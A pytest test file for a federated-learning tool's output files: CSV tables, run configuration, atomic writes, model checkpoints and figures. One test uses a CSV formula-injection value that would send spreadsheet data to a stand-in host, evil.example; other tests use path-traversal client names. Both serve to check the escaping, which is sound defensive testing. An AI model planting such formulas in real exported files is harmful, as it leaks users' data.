"""Files that a run writes, read back as a user or another program would."""

from __future__ import annotations

import csv
import errno
import io
import json
import math
import os
import re
import sys
from contextlib import contextmanager
from datetime import UTC, datetime
from types import SimpleNamespace

import flwr
import numpy as np
import pytest
import sklearn
import torch
from flwr.app import Array, ArrayRecord
from hypothesis import example, given, strategies as st
from matplotlib.image import imread
from safetensors import safe_open
from safetensors.numpy import load_file
from typer.testing import CliRunner

import kindred.data
from kindred.data import load_federation
from kindred.engine.collaboration import Collaboration
from kindred.engine.history import History
from kindred.server_app import results, run_files, tables
from kindred.server_app.cli import report as _report, run as cli  # noqa: F401  the first adds commands
from kindred.server_app.config import Config, ConfigError
from kindred.server_app.engines import Engine, execute
from kindred.server_app.headline import Headline
from kindred.server_app.report import figures as pictures, write
from kindred.server_app.report.comparison_figures import comparison_figure
from kindred.server_app.report.content import run_content
from kindred.server_app.report.render import embedded
from kindred.server_app.report.run_figures import networks_of, partition_picture
from kindred.server_app.report.watch import Watcher
from kindred.server_app.report.weights import is_share
from kindred.server_app.results import RunFolder
from kindred.server_app.summary import compare_runs, comparison_table, summarise
from kindred.server_app.tables import GrowingTable, read_table
from kindred.server_app.terminal import print_table

SETTINGS = Config(num_rounds=2, num_clients=4, num_groups=2).run_config()


def settings(folder, **changed):
    return SETTINGS | {"output-dir": str(folder)} | changed


def row(number, client, status="ok", **metrics):
    return {"round": number, "client": client, "status": status, "seconds": 0.5, "bytes-down": 100, "bytes-up": 30} | {
        key.replace("_", "-"): value for key, value in metrics.items()
    }


def run_of(rounds, seconds=2.0, weights=None, models=None, clients=(0, 1, 2)):
    """Return a stand-in for a strategy after its run: a real history, and the rest as given."""
    history = History()
    for number, rows in enumerate(rounds, 1):
        for line in rows:
            history.add(line)
        history.close_round(number, seconds, "trained")
    weights = np.eye(len(clients)) if weights is None else np.array(weights)
    return SimpleNamespace(
        history=history,
        shared_rows=lambda: Collaboration.of_matrix(clients, weights),
        client_models=lambda: models or {},
    )


TWO_ROUNDS = [
    [row(1, 0, personal_accuracy=0.5, num_test_examples=10), row(1, 1, personal_accuracy=0.7, num_test_examples=30)],
    [row(2, 0, "timed out"), row(2, 1, personal_accuracy=0.9, num_test_examples=30, train_loss=0.25)],
]


def record(**arrays):
    return ArrayRecord({name: Array(np.asarray(array)) for name, array in arrays.items()})


def files_of(folder):
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}


def is_picture(path, at_least=(600, 400)):
    """A PNG of a size that can be read, with something in it."""
    pixels = imread(path)
    return (
        path.read_bytes().startswith(b"\x89PNG\r\n")
        and pixels.shape[1] >= at_least[0]
        and pixels.shape[0] >= at_least[1]
        and pixels[..., :3].std() > 0.02
    )


@pytest.fixture(scope="module")
def federation():
    return load_federation(SETTINGS)


@contextmanager
def full_disk():
    """Make every write fail as on a full disk."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(os, "fsync", no_space)
        patch.setattr(os, "replace", no_space)
        patch.setattr(tables, "open", FullFile, raising=False)
        yield


def no_space(*_):
    raise OSError(errno.ENOSPC, "No space left on device")


class FullFile(io.FileIO):
    """A file on a disk that has room for half of what is appended."""

    def write(self, data):
        super().write(data[: len(data) // 2])
        no_space()


# --- The folder and its configuration -------------------------------------------------------------------


def test_files_of_arrays_of_two_equal_runs_are_the_same_bytes(tmp_path) -> None:
    written = []
    for folder in (tmp_path / "one", tmp_path / "two"):
        config = Config(strategy="federico", num_rounds=2, num_clients=4, validation_share=0.2, output_dir=str(folder))
        path = execute(config, Engine("inline"), lambda line: None).results
        files = {file.relative_to(path): file.read_bytes() for file in sorted(path.rglob("*.safetensors"))}
        written.append(files)
    assert {file.parent.name for file in written[0]} == {"models", "mixtures", "selected", "predictions"}
    assert written[0] == written[1]


def test_a_run_does_not_resume_on_other_samples(tmp_path):
    path = RunFolder(settings(tmp_path), samples="1").path
    with pytest.raises(ConfigError, match="resume is .* other samples"):
        RunFolder(settings(tmp_path, resume=str(path)), samples="2")
    assert RunFolder(settings(tmp_path, resume=str(path)), samples="1").path == path


def test_the_configuration_has_all_settings_versions_seed_and_start(tmp_path):
    before = datetime.now(UTC).replace(microsecond=0)
    folder = RunFolder(settings(tmp_path / "new" / "results", seed=7))
    config = json.loads((folder.path / "config.json").read_text())
    assert config["settings"] == settings(tmp_path / "new" / "results", seed=7)
    assert config["seed"] == 7
    torch_versions = torch.__version__, torch.__version__.partition("+")[0]  # a package may not name its build
    assert config["versions"].pop("torch") in torch_versions
    assert config["versions"] | {"kindred": None} == {
        "kindred": None,
        "python": ".".join(map(str, sys.version_info[:3])),
        "flwr": flwr.__version__,
        "numpy": np.__version__,
        "scikit-learn": sklearn.__version__,
    }
    assert config["platform"]
    started = datetime.fromisoformat(config["started"])
    assert before <= started <= datetime.now(UTC)
    assert folder.path == tmp_path / "new" / "results" / f"{started:%Y%m%d-%H%M%S}-heurfedamp-digits-rotated-seed7"


def test_runs_of_the_same_second_have_different_folders(tmp_path, monkeypatch):
    class Frozen(datetime):
        @classmethod
        def now(cls, tz=None):
            return datetime(2026, 11, 21, 10, 15, 0, tzinfo=tz)

    monkeypatch.setattr(results, "datetime", Frozen)
    first = RunFolder(settings(tmp_path))
    first.record_round(run_of(TWO_ROUNDS))
    kept = (first.path / "history.csv").read_bytes()
    others = [RunFolder(settings(tmp_path)).path.name for _ in range(2)]
    name = "20261121-101500-heurfedamp-digits-rotated-seed0"
    assert [first.path.name, *others] == [name, f"{name}-2", f"{name}-3"]
    assert (first.path / "history.csv").read_bytes() == kept


def test_a_relative_folder_becomes_absolute(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = RunFolder(settings("here"))
    monkeypatch.chdir("/")
    folder.record_round(run_of(TWO_ROUNDS))
    assert (tmp_path / "here" / folder.path.name / "rounds.csv").exists()


@pytest.mark.parametrize("place", ["file", "file/below", "a\0b", "x" * 300, "new/" + "x" * 300])
def test_an_impossible_output_folder_is_one_clear_line_and_creates_nothing(tmp_path, place):
    (tmp_path / "file").write_text("mine")
    with pytest.raises(ConfigError) as caught:
        RunFolder(settings(f"{tmp_path}/{place}"))
    text = str(caught.value)
    assert text.startswith("output-dir is ") and repr(f"{tmp_path}/{place}") in text and "\n" not in text
    assert files_of(tmp_path) == {"file"} and (tmp_path / "file").read_text() == "mine"
    assert [path.name for path in tmp_path.iterdir()] == ["file"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
def test_a_folder_without_permission_is_refused(tmp_path):
    tmp_path.chmod(0o500)
    with pytest.raises(ConfigError, match="output-dir is .*Permission denied"):
        RunFolder(settings(tmp_path / "results"))


def test_a_full_disk_at_the_start_leaves_no_folder(tmp_path):
    with full_disk(), pytest.raises(ConfigError, match="No space left on device"):
        RunFolder(settings(tmp_path / "a" / "b"))
    assert list(tmp_path.iterdir()) == []


# --- Tables ---------------------------------------------------------------------------------------------


def test_tables_are_written_after_each_round(tmp_path):
    folder = RunFolder(settings(tmp_path))
    folder.record_round(run_of(TWO_ROUNDS[:1]))
    assert (folder.path / "history.csv").read_text() == (
        "round,client,status,seconds,bytes-down,bytes-up,personal-accuracy,num-test-examples\n"
        "1,0,ok,0.5,100,30,0.5,10\n"
        "1,1,ok,0.5,100,30,0.7,30\n"
    )
    folder.record_round(run_of(TWO_ROUNDS))
    assert (folder.path / "history.csv").read_text() == (
        "round,client,status,seconds,bytes-down,bytes-up,personal-accuracy,num-test-examples,train-loss\n"
        "1,0,ok,0.5,100,30,0.5,10,\n"
        "1,1,ok,0.5,100,30,0.7,30,\n"
        "2,0,timed out,0.5,100,30,,,\n"
        "2,1,ok,0.5,100,30,0.9,30,0.25\n"
    )
    header, first, second = (folder.path / "rounds.csv").read_text().splitlines()
    assert header == (
        "round,asked,answered,seconds,bytes-down,bytes-up,evaluated,personal,"
        "accuracy,accuracy-weighted,accuracy-p10,accuracy-best,accuracy-validation,accuracy-selected"
    )

    def numbers(line: str) -> list[float]:
        return [float(cell) for cell in line.split(",")[6:] if cell not in ("", "trained")]

    # Means of .5 and .7, then of .5 (carried forward) and .9; weights 10 and 30; deciles a tenth of the way up.
    assert first.startswith("1,2,2,2.0,200,60,")
    assert numbers(first) == pytest.approx([2, 0.6, 0.65, 0.52, 0.6])
    assert second.startswith("2,2,1,2.0,200,60,")
    assert numbers(second) == pytest.approx([2, 0.7, 0.8, 0.54, 0.7])


def test_tables_are_written_without_any_reply(tmp_path):
    folder = RunFolder(settings(tmp_path))
    folder.record_round(run_of([[]]))
    assert read_table(folder.path / "history.csv") == []
    assert read_table(folder.path / "rounds.csv") == [
        {"round": 1, "asked": 0, "answered": 0, "seconds": 2.0, "bytes-down": 0, "bytes-up": 0}
    ]


anything = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=8)
starts = st.sampled_from(["=", "+", "-", "@", "'", "'=", " =", "\t", "\r="])
texts = anything | st.builds("{}{}".format, starts, anything)
numbers = st.integers(-(10**18), 10**18) | st.floats()
wild_rows = st.lists(
    st.fixed_dictionaries(
        {"round": st.integers(1, 5), "client": st.integers(0, 2**64 - 1) | texts, "status": texts},
        optional={key: numbers for key in ("seconds", "loss", "a,b", "personal-accuracy", "=a", "'=a", "''a", "-1")},
    ),
    max_size=8,
)


@given(wild_rows, st.lists(st.integers(0, 8), max_size=4))
def test_any_content_of_rounds_is_read_back(tmp_path_factory, rows, cuts):
    path = tmp_path_factory.mktemp("table") / "t.csv"
    table = GrowingTable(path, results.HISTORY_COLUMNS)
    for cut in [*sorted(cuts), len(rows)]:
        table.extend(rows[:cut])

    def comparable(line):  # a client id of digits looks like a number; repr makes NaN equal NaN
        return {key: str(value) if key == "client" else repr(value) for key, value in line.items()}

    kept = [
        {key: re.sub("[\r\n]+", " ", value) if isinstance(value, str) else value for key, value in line.items()}
        for line in rows
    ]
    assert [comparable(line) for line in read_table(path)] == [comparable(line) for line in kept]
    assert path.read_bytes().count(b"\n") == len(rows) + 1
    with open(path, encoding="utf-8", newline="") as file:
        header, *lines = csv.reader(file)
    for cell in (*header, *(cell for line in lines for cell in line[1:3] if not cell.isdecimal())):
        assert not cell.strip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), cell


def test_no_name_or_reason_of_a_client_is_a_formula_to_a_spreadsheet(tmp_path):
    name = '=HYPERLINK("http://evil.example?"&A1)'
    rows = [row(1, name, "@SUM(1)", **{"+cmd": -1.5}), row(1, "'quoted", personal_accuracy=0.5)]
    folder = RunFolder(settings(tmp_path))
    folder.record_round(run_of([rows], clients=("'quoted", name)))
    header, *lines = csv.reader(io.StringIO((folder.path / "history.csv").read_text()))
    assert header[-2:] == ["personal-accuracy", "'+cmd"]
    assert [line[1:3] for line in lines] == [["''quoted", "ok"], [f"'{name}", "'@SUM(1)"]]
    assert lines[1][-1] == "-1.5"
    found = read_table(folder.path / "history.csv")
    assert [line["client"] for line in found] == ["'quoted", name]
    assert (found[1]["status"], found[1]["+cmd"]) == ("@SUM(1)", -1.5)
    content = run_content(folder.path)
    assert content["clients"]["names"] == content["collaboration"]["names"] == ["'quoted", name]


def test_columns_stay_in_order_of_first_appearance(tmp_path):
    table = GrowingTable(tmp_path / "t.csv", ("round", "client"))
    rows = [{"round": 1, "client": 0, "z": 1}, {"round": 1, "client": 1, "a": 2}, {"client": 0, "round": 2, "m": 3}]
    for end in (2, 3):
        table.extend(rows[:end])
    assert (tmp_path / "t.csv").read_text() == "round,client,z,a,m\n1,0,1,,\n1,1,,2,\n2,0,,,3\n"


@pytest.mark.parametrize("new_column", [False, True])
def test_a_failed_write_leaves_the_table_and_the_next_write_completes_it(tmp_path, new_column):
    path = tmp_path / "t.csv"
    table = GrowingTable(path, ("round", "client"))
    rows = [{"round": 1, "client": 0}]
    table.extend(rows)
    before = path.read_bytes()
    rows += [{"round": 2, "client": 0} | ({"loss": 1.5} if new_column else {})]
    with full_disk(), pytest.raises(OSError, match="No space left"):
        table.extend(rows)
    assert path.read_bytes() == before
    assert files_of(tmp_path) == {"t.csv"}
    table.extend(rows)
    assert read_table(path) == rows


def test_an_incomplete_line_is_omitted(tmp_path):
    path = tmp_path / "history.csv"
    path.write_text('round,client,status,seconds\n1,0,ok,0.5\n2,1,"timed o')
    assert read_table(path) == [{"round": 1, "client": 0, "status": "ok", "seconds": 0.5}]


# --- Atomic writes --------------------------------------------------------------------------------------


@pytest.mark.parametrize("failure", [OSError("full"), KeyboardInterrupt()])
@pytest.mark.parametrize("moment", ["write", "fsync", "replace"])
def test_an_interrupted_write_leaves_the_old_file_and_no_other(tmp_path, monkeypatch, moment, failure):
    def fail(*args):
        raise failure

    path = tmp_path / "summary.json"
    path.write_text("old")
    if moment != "write":
        monkeypatch.setattr(os, moment, fail)
    with pytest.raises(type(failure)), results.replacing(path) as temporary:
        temporary.write_text("half of the n")
        if moment == "write":
            fail()
    assert path.read_text() == "old"
    assert files_of(tmp_path) == {"summary.json"}


def test_a_finished_write_replaces_the_old_file(tmp_path):
    path = tmp_path / "summary.json"
    path.write_text("old")
    with results.replacing(path) as temporary:
        temporary.write_text("new")
        assert path.read_text() == "old"
    assert path.read_text() == "new"
    assert files_of(tmp_path) == {"summary.json"}


# --- Collaboration matrices -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("clients", "stored"),
    [
        ([0, 5, 12], np.array([0, 5, 12])),
        ([3, 2**64 - 1], np.array([3, 2**64 - 1], dtype=np.uint64)),
        (["clinic", "ü/ß"], np.array(["clinic", "ü/ß"])),
        ([7, "clinic"], np.array(["7", "clinic"])),
    ],
)
def test_the_matrix_of_every_round_is_stored_without_pickle(tmp_path, clients, stored):
    folder = RunFolder(settings(tmp_path))
    weights = np.full((len(clients), len(clients)), 1 / len(clients))
    for count in (1, 2):
        folder.record_round(run_of(TWO_ROUNDS[:count], weights=weights * count, clients=clients))
    assert files_of(folder.path / "collaboration") == {"round-0001.npz", "round-0002.npz"}
    with np.load(folder.path / "collaboration" / "round-0002.npz", allow_pickle=False) as kept:
        assert set(kept) == {"clients", "rows", "which", "own"}
        assert kept["clients"].dtype.kind == stored.dtype.kind
        assert kept["clients"].tolist() == stored.tolist()
        assert kept["rows"].dtype == np.float32
        np.testing.assert_array_equal(kept["rows"], (2 * weights).astype(np.float32))


# --- The end of a run -----------------------------------------------------------------------------------


def test_a_finished_run_has_all_result_files(tmp_path, federation):
    models = {0: record(w=np.ones(3, np.float32)), 1: record(w=np.zeros(3, np.float32))}
    strategy = run_of(TWO_ROUNDS, weights=[[0.2, 0.8], [0.8, 0.2]], models=models, clients=(0, 1))
    folder = RunFolder(settings(tmp_path))
    folder.record_round(strategy)
    returned = folder.finish(strategy, federation)
    assert files_of(folder.path) == {
        "config.json",
        "history.csv",
        "rounds.csv",
        "collaboration/round-0002.npz",
        "summary.json",
        "accuracy.png",
        "collaboration.png",
        "partition.png",
        "report.html",
        "models/client-0.safetensors",
        "models/client-1.safetensors",
    }
    summary = run_files.read_summary(folder.path)
    assert summary == returned
    assert summary == {
        "strategy": "heurfedamp",
        "dataset": "digits",
        "partition": "rotated",
        "seed": 0,
        "rounds": 2,
        "metric": "accuracy",
        "personal": "trained",
        "accuracy": pytest.approx(0.7),
        "accuracy-weighted": pytest.approx(0.8),
        "accuracy-p10": pytest.approx(0.54),
        "accuracy-best": pytest.approx(0.7),
        "accuracy-validation": None,
        "accuracy-selected": None,
        "seconds": 4.0,
        "seconds-per-round": 2.0,
        "seconds-by-part": pytest.approx(dict.fromkeys(("start-up", "clients", "server", "results"), 0.0), abs=60),
        "bytes-down": 400,
        "bytes-up": 120,
        "asked": 4,
        "answered": 3,
        "left-out": [],
        "remarks": [],
        "refused": [],
        "clients": [
            {
                "client": 0,
                "classes": 10,
                "accuracy": 0.5,
                "model": "models/client-0.safetensors",
                "last": {"accuracy": 0.5},
            },
            {
                "client": 1,
                "classes": 10,
                "accuracy": 0.9,
                "model": "models/client-1.safetensors",
                "last": {"accuracy": 0.9},
            },
        ],
        "validators": [],
        "newcomers": None,
        "metrics": {"selected": {}, "last": {"accuracy": pytest.approx(0.7)}},
        "intervals": {"selected": {}, "last": {"accuracy": [0.5, 0.9]}},  # a quarter of the draws has one client twice
        "verdict": None,
    }
    for name in ("accuracy.png", "collaboration.png", "partition.png"):
        assert is_picture(folder.path / name), name


def test_the_closing_evaluation_counts_as_cost_but_not_as_a_round(tmp_path):
    strategy = run_of([*TWO_ROUNDS, [row(3, 0, personal_accuracy=0.95), row(3, 1, personal_accuracy=0.85)]])
    summary = summarise(settings(tmp_path), strategy.history, {})
    assert (summary["rounds"], summary["seconds"], summary["seconds-per-round"]) == (2, 6.0, 2.0)
    assert summary["accuracy"] == pytest.approx(0.9)
    assert summary["bytes-down"] == 600


def test_a_run_without_reports_ends_normally(tmp_path, federation):
    strategy = run_of([[row(1, 0, "failed"), row(1, 1, personal_accuracy=math.nan)]], clients=())
    folder = RunFolder(settings(tmp_path))
    folder.record_round(strategy)
    folder.finish(strategy, federation)
    summary = json.loads((folder.path / "summary.json").read_text(), parse_constant=lambda name: pytest.fail(name))
    assert summary["accuracy"] is summary["accuracy-best"] is None
    assert summary["clients"] == [
        {"client": 0, "classes": 10, "accuracy": None, "model": None},
        {"client": 1, "classes": 10, "accuracy": None, "model": None},
    ]
    assert not (folder.path / "models").exists() and not (folder.path / "collaboration").exists()


def strictly(text):
    """Parse JSON; refuse NaN and the infinities, which JSON does not have."""
    return json.loads(text, parse_constant=lambda name: pytest.fail(name))


@pytest.mark.parametrize(
    "value", [math.nan, math.inf, 1e308, -1, 2**64 - 1, 2**66, [0.5, 1e308] * 12_000], ids=lambda value: str(value)[:12]
)
def test_results_are_written_whatever_number_clients_report(tmp_path, caplog, value):
    clients, known = ("x" * 200, 2**64 - 1, "c"), {"personal_accuracy": 0.5, "samples_trained": 3}
    odd = dict.fromkeys(("received_accuracy", "trained_accuracy", "train_loss", "num_test_examples", "a-status"), value)
    numbers = {} if isinstance(value, list) else {"personal_accuracy": value, "samples_trained": value}
    strategy = run_of(
        [
            [row(number, client, **odd | numbers) for client in clients[:2]]
            + [row(number, "c", **odd | (known if number == 2 else numbers))]
            for number in (1, 2, 3)
        ],
        clients=clients,
    )
    for line in strategy.history.rounds[:2]:
        line.update({"floats": value, "samples-trained": value, "accuracy": value} if numbers else {})
    folder = RunFolder(settings(tmp_path))
    folder.record_round(strategy)
    folder.finish(strategy, None)
    assert "cannot be written" not in caplog.text
    summary = strictly((folder.path / "summary.json").read_text())
    if numbers:
        assert summary["floats"] == (value + value if math.isfinite(value + value) else None)
    assert [each["accuracy"] for each in summary["clients"]] == [None, 0.5, None]
    assert is_picture(folder.path / "accuracy.png") and is_picture(folder.path / "collaboration.png")

    (folder.path / "report.html").unlink()
    done = CliRunner().invoke(cli.app, ["report", str(folder.path)])
    assert done.exit_code == 0 and (folder.path / "report.html").exists(), done.output
    with Watcher(folder.path, 0) as watcher:
        shown = strictly(embedded(watcher.content("/")))
    assert shown["finished"] and shown["clients"]["last"] == [None, 0.5, None]
    compare_runs([folder.path, folder.path], tmp_path / "comparison.png", io.StringIO())
    assert "cannot be written" not in caplog.text and is_picture(tmp_path / "comparison.png")


@pytest.mark.parametrize(
    ("where", "what", "file"),
    [
        (pictures, "metric_figure", "accuracy.png"),
        (pictures, "collaboration_figure", "collaboration.png"),
        (kindred.data, "partition_figure", "partition.png"),
        (write, "run_content", "report.html"),
    ],
)
def test_a_picture_or_report_that_fails_is_a_warning_and_all_else_is_written(
    tmp_path, federation, monkeypatch, caplog, where, what, file
):
    def fail(*_):
        raise ValueError("Axis limits cannot be NaN\nor Inf")

    monkeypatch.setattr(where, what, fail)
    partition_picture.cache_clear()
    strategy = run_of(TWO_ROUNDS, models={0: record(w=np.ones(3))})
    folder = RunFolder(settings(tmp_path))
    folder.finish(strategy, federation)
    (warning,) = [each.getMessage() for each in caplog.records if "cannot be written" in each.getMessage()]
    assert warning == (
        f"kindred: {folder.path / file} cannot be written (ValueError: Axis limits cannot be NaN); "
        "all other results are"
    )
    assert files_of(folder.path) == {
        "config.json",
        "history.csv",
        "rounds.csv",
        "summary.json",
        "models/client-0.safetensors",
        "accuracy.png",
        "collaboration.png",
        "partition.png",
        "report.html",
    } - {file}


def test_a_picture_that_fails_does_not_end_a_run(tmp_path, monkeypatch):
    monkeypatch.setattr(pictures, "metric_figure", lambda *_: 1 / 0)
    done = CliRunner().invoke(
        cli.app,
        [
            "run",
            "--strategy=local",
            "--engine=inline",
            "--clients=2",
            "--rounds=1",
            "--set=samples-per-client=10",
            "--set=local-epochs=1",
            "--set=num-groups=1",
            f"--output-dir={tmp_path}",
        ],
    )
    assert done.exit_code == 0 and "accuracy.png cannot be written (ZeroDivisionError: division by zero)" in done.output
    (folder,) = tmp_path.iterdir()
    assert run_files.is_finished(folder) and (folder / "report.html").exists()


def test_a_summary_means_that_all_models_are_written(tmp_path, federation, monkeypatch):
    strategy = run_of(TWO_ROUNDS, models={0: record(w=np.ones(3))})
    folder = RunFolder(settings(tmp_path))
    folder.record_round(strategy)
    before = files_of(folder.path)
    with full_disk(), pytest.raises(OSError, match="No space left"):
        folder.finish(strategy, federation)
    assert files_of(folder.path) == before
    with pytest.raises(ValueError, match="holds no summary.json"):
        run_files.read_summary(folder.path)
    with monkeypatch.context() as patch, pytest.raises(OSError, match="No space left"):
        patch.setattr(RunFolder, "_save_models", no_space)
        folder.finish(strategy, federation)
    assert files_of(folder.path) == before  # without checkpoints, a summary alone would pass for a finished run
    folder.finish(strategy, federation)
    assert run_files.read_summary(folder.path)["rounds"] == 2 and "models/client-0.safetensors" in files_of(folder.path)


def test_models_are_read_back_bit_by_bit(tmp_path, federation):
    rng = np.random.default_rng(0)
    arrays = {
        "conv.weight": rng.normal(size=(4, 3, 2)).astype(np.float32),
        "turned": np.asfortranarray(rng.normal(size=(3, 5)).astype(np.float32)),
        "wide": rng.normal(size=(2, 2)),
        "half": rng.normal(size=7).astype(np.float16),
        "bn.num_batches_tracked": np.int64(12345678901),
        "empty": np.zeros((0, 3), np.float32),
        "swapped": np.arange(5, dtype=">f4"),
    }
    folder = RunFolder(settings(tmp_path))
    folder.finish(run_of(TWO_ROUNDS, models={3: record(**arrays)}), federation)
    path = folder.path / "models" / "client-3.safetensors"
    loaded = load_file(path)
    assert loaded.keys() == arrays.keys()
    for name, array in arrays.items():
        assert loaded[name].dtype == array.dtype.newbyteorder("=") and loaded[name].shape == array.shape, name
        np.testing.assert_array_equal(loaded[name], array)
    with safe_open(path, "numpy") as file:
        assert file.metadata() == {"strategy": "heurfedamp", "round": "2", "client": "3"}


ODD_IDS = [
    7,
    "7",
    "A",
    "a",
    "",
    "..",
    "../../up",
    "a/b",
    "a b",
    "50%",
    "50%25",
    "ü",
    "x" * 300,
    "x" * 299 + "y",
    "line\nbreak",
    r"$\x$",
    "CON",
    2**64 - 1,
]


def test_clients_with_odd_ids_each_have_their_own_model_file(tmp_path, federation):
    models = {client: record(w=np.full(2, i, np.float32)) for i, client in enumerate(ODD_IDS)}
    rows = [[row(1, client, personal_accuracy=0.5) for client in ODD_IDS]]
    size = len(ODD_IDS)
    strategy = run_of(rows, models=models, clients=ODD_IDS, weights=np.full((size, size), 1 / size))
    folder = RunFolder(settings(tmp_path))
    folder.record_round(strategy)
    folder.finish(strategy, federation)
    assert len(list((folder.path / "models").iterdir())) == size
    for line in run_files.read_summary(folder.path)["clients"]:
        path = folder.path / line["model"]
        assert path.parent == folder.path / "models"
        assert load_file(path)["w"][0] == ODD_IDS.index(line["client"])
        with safe_open(path, "numpy") as file:
            assert file.metadata()["client"] == str(line["client"])
    assert is_picture(folder.path / "collaboration.png")


@given(st.lists(st.integers() | st.text(st.characters(exclude_categories=["Cs"])), unique_by=repr))
@example(["a", "A"])
def test_file_names_are_safe_and_distinct_everywhere(clients):
    taken = set()
    names = [run_files.model_file(client, taken) for client in clients]
    assert len({name.casefold() for name in names}) == len(clients)
    assert all(re.fullmatch(r"client-[A-Za-z0-9._~%-]{0,110}\.safetensors", name) for name in names)


# --- Pictures -------------------------------------------------------------------------------------------


def wild_run(num_clients, num_rounds, seed=0, silent=(), broken=()):
    """Rows like those of a real run: rising accuracies, some clients silent, some with accuracies that are NaN."""
    rng = np.random.default_rng(seed)
    rounds = []
    for number in range(1, num_rounds + 1):
        level = rng.normal(0.8 - 0.5 * 0.7**number, 0.05, num_clients).clip(0, 1).tolist()
        rounds.append(
            [
                row(number, client, "timed out")
                if client in silent
                else row(
                    number,
                    client,
                    personal_accuracy=math.nan if client in broken else level[client],
                    trained_accuracy=math.nan if client in broken else level[client],
                    received_accuracy=level[client] / 2,
                )
                for client in range(num_clients)
            ]
        )
    return run_of(rounds).history


def test_the_last_report_is_carried_forward_over_missed_rounds():
    history = wild_run(1, 0)
    history.rows = [row(1, 0, x=0.1), row(1, "b"), row(2, 0, x=math.nan), row(2, "b", x=0.4), row(4, 0, x=0.3)]
    rounds, clients, values = pictures.carried_forward(history.rows, "x", is_share)
    assert (rounds.tolist(), clients) == ([1, 2, 4], [0, "b"])
    np.testing.assert_array_equal(values, [[0.1, np.nan], [0.1, 0.4], [0.3, 0.4]])


@pytest.mark.parametrize(
    ("num_clients", "num_rounds", "silent", "broken"),
    [
        (20, 15, (), ()),
        (100, 3, range(5), (7, 8)),
        (5, 1, (), ()),
        (1, 2, (), ()),
        (3, 2, (0,), (1, 2)),
        (4, 0, (), ()),
    ],
)
def test_the_accuracy_picture_of_any_run(tmp_path, num_clients, num_rounds, silent, broken):
    history = wild_run(num_clients, num_rounds, silent=silent, broken=broken)
    figure = pictures.metric_figure(history.rows, Headline(), r"not $\mathematics$" "\nin two lines")
    figure.savefig(tmp_path / "a.png")
    # An empty frame with a sentence in it has few dark pixels.
    assert is_picture(tmp_path / "a.png")


def legend_of(figure):
    return [text.get_text() for text in figure.legends[0].get_texts()]


def test_the_accuracy_picture_shows_local_training_only_where_it_has_an_effect():
    rows = wild_run(4, 3, silent=(2,)).rows
    entries = legend_of(pictures.metric_figure(rows, Headline(), "t"))
    assert "mean over the 3 of 4 clients that reported, after local training" in entries
    assert any("before local training" in entry for entry in entries)
    for line in rows:
        if "received-accuracy" in line:
            line["personal-accuracy"] = line["received-accuracy"]
    entries = legend_of(pictures.metric_figure(rows, Headline(), "t"))
    assert "mean over the 3 of 4 clients that reported" in entries
    assert not any("local training" in entry for entry in entries)
    closing = [row(4, client, personal_accuracy=0.95) for client in range(4)]
    entries = legend_of(pictures.metric_figure(rows + closing, Headline(), "t"))
    assert "mean over clients" in entries and not any("local training" in entry for entry in entries)


def test_the_accuracy_picture_shows_received_models_only_where_they_were_evaluated():
    rows = [
        row(1, 0, received_accuracy=0.2, tuned_accuracy=0.6, personal_accuracy=0.6),
        row(2, 0, personal_accuracy=0.7),
    ]
    figure = pictures.metric_figure(rows, Headline(), "t")
    assert "mean over clients, after fine-tuning" in legend_of(figure)
    before = next(line for line in figure.axes[0].lines if "before" in line.get_label())
    assert before.get_xydata().tolist() == [[1.0, pytest.approx(20.0)]]


def test_the_accuracy_picture_marks_the_best_round():
    rows = [row(number, 0, personal_accuracy=accuracy) for number, accuracy in enumerate((0.25, 0.75, 0.5), 1)]
    assert "best mean: 75.0 % in round 2" in legend_of(pictures.metric_figure(rows, Headline(), "t"))


def test_the_collaboration_picture_orders_clients_by_group_and_scales_colours_to_other_clients():
    weights = np.array(
        [[0.90, 0.01, 0.07, 0.02], [0.00, 0.94, 0.01, 0.05], [0.06, 0.02, 0.91, 0.01], [0.01, 0.03, 0.00, 0.96]]
    )
    figure = pictures.collaboration_figure([10, 11, 12, 13], weights, [0, 1, 0, 1], "t")
    axes, image = figure.axes[0], figure.axes[0].images[0]
    shown = np.ma.filled(image.get_array(), np.nan)
    np.testing.assert_allclose(
        shown,
        [
            [np.nan, 0.07, 0.01, 0.02],
            [0.06, np.nan, 0.02, 0.01],
            [0.00, 0.01, np.nan, 0.05],
            [0.01, 0.00, 0.03, np.nan],
        ],
    )
    assert image.get_clim() == (0.0, 0.07)
    assert [label.get_text() for label in axes.get_xticklabels()] == ["10", "12", "11", "13"]
    assert "0.90 to 0.96" in axes.get_title()


@pytest.mark.parametrize(("count", "groups"), [(1, 1), (2, 1), (20, 4), (100, 20), (60, 1)])
@pytest.mark.parametrize("weights", ["own", "equal"])
def test_the_collaboration_picture_can_have_any_size(tmp_path, count, groups, weights):
    matrix = np.eye(count) if weights == "own" else np.full((count, count), 1 / count)
    figure = pictures.collaboration_figure(list(range(count)), matrix, np.arange(count) % groups, "t")
    figure.savefig(tmp_path / "c.png")
    assert is_picture(tmp_path / "c.png")


@pytest.mark.parametrize("finals", [(0.83, 0.72, 0.59), (0.7, 0.7, 0.7), tuple(0.5 + 0.001 * i for i in range(14))])
def test_the_comparison_labels_each_line_at_its_height_without_overlap(tmp_path, finals):
    runs = [
        (f"method {i}", [[{"round": 1, "accuracy": 0.3}, {"round": 2, "accuracy": final}]])
        for i, final in enumerate(finals)
    ]
    figure = comparison_figure([*runs, ("nothing", [[{"round": 1}]])], Headline(), "t")
    figure.savefig(tmp_path / "c.png")
    assert is_picture(tmp_path / "c.png")
    labels = [text for text in figure.axes[0].texts if text.get_text()]
    assert [label.get_text() for label in labels] == [f"method {i}  {100 * f:.1f} %" for i, f in enumerate(finals)]
    boxes = [label.get_window_extent() for label in labels]
    by_height = sorted(range(len(finals)), key=lambda i: boxes[i].y0)
    assert all(boxes[low].y1 <= boxes[high].y0 for low, high in zip(by_height, by_height[1:]))
    assert [finals[i] for i in by_height] == sorted(finals)
    assert all(0 <= box.y0 and box.y1 <= figure.bbox.y1 and box.x1 <= figure.bbox.x1 for box in boxes)


def test_comparison_lines_differ_without_colour():
